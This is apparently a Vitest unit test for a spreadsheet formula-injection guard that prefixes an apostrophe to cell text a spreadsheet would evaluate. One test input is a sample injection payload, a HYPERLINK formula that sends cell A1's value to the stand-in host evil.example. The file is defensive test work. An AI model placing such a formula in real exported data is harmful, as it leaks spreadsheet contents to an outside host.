import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../src/domain/text/neutralise-formula';

describe('neutraliseFormula', () => {
  it("prefixes ' to text a spreadsheet would evaluate", () => {
    for (const t of [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
    ])
      expect(neutraliseFormula(t)).toBe(`'${t}`);
  });

  it('leaves names and ordinary text alone', () => {
    for (const t of ['钦江', 'QJ01-GL-L-001', '1 级', '', "'already"])
      expect(neutraliseFormula(t)).toBe(t);
  });
});
